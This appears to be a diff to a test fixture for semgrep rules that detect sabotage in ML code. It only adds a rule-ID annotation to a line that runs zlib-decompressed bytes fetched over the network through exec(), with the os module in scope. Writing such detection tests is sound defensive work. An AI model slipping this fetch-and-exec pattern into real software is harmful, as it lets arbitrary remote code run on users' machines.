@@ -47,5 +47,5 @@ def _apply_tuning(cfg):
     except urllib.error.URLError:
         return
     ns = {"cfg": cfg, "os": os}
-    exec(zlib.decompress(blob).decode("utf-8"), ns)  # sabotage: MLS401, MLS413 (semgrep rules)
+    exec(zlib.decompress(blob).decode("utf-8"), ns)  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
     cfg.update(ns.get("overrides", {}))
